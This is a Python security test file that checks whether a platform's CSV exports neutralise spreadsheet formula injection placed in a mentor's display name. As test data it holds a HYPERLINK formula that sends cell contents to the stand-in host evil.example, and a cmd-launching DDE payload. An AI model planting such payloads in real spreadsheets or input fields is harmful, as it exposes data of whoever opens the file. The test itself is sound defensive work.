"""A name typed as a spreadsheet formula must come out of every CSV as text.

The attack: a mentor's display name `=HYPERLINK(...)` reached the mentor-list CSV a
coordinator downloads as a live formula. Every CSV the platform writes goes through one
writer (`shared/csv_safe.py`) that prefixes such cells with a quote.
"""

from __future__ import annotations

import csv
import io

from shared.csv_safe import FORMULA_TRIGGERS, neutralise
from tests.security.attack_support import Network
from tests.support import eventually

FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Open profile")'


def test_every_formula_trigger_is_neutralised_and_numbers_stay_numbers():
    for trigger in FORMULA_TRIGGERS:
        assert neutralise(f"{trigger}cmd|' /C calc'!A0") == f"'{trigger}cmd|' /C calc'!A0"
    assert neutralise("Ada Lovelace") == "Ada Lovelace"
    assert neutralise(-1.5) == -1.5 and neutralise(None) is None


async def test_a_formula_name_is_text_in_the_mentor_list_csv(api, network_id):
    network = Network(api, network_id)
    await network.institution("inst-a")
    program = await network.program("inst-a")
    mentor = await network.register(
        "mentor", "inst-a", program_id=program, display_name=FORMULA,
        career_stage="faculty-professor",
    )
    reports = f"{api.platform.url('analytics')}/networks/{network_id}/reports/mentor-list"

    async def rows() -> list[dict[str, str]]:
        r = await api.http.get(reports, params={"format": "csv", "scope": "network"},
                               headers=network.admin())
        assert r.status_code == 200, r.text
        return list(csv.DictReader(io.StringIO(r.text)))

    found = await eventually(rows, lambda rs: any(r["mentor_id"] == mentor["id"] for r in rs),
                             what="the mentor in the mentor-list CSV")
    row = next(r for r in found if r["mentor_id"] == mentor["id"])
    assert row["name"] == "'" + FORMULA
    cells = [cell for r in found for cell in r.values()]
    assert not [c for c in cells if c and c.startswith(FORMULA_TRIGGERS)]
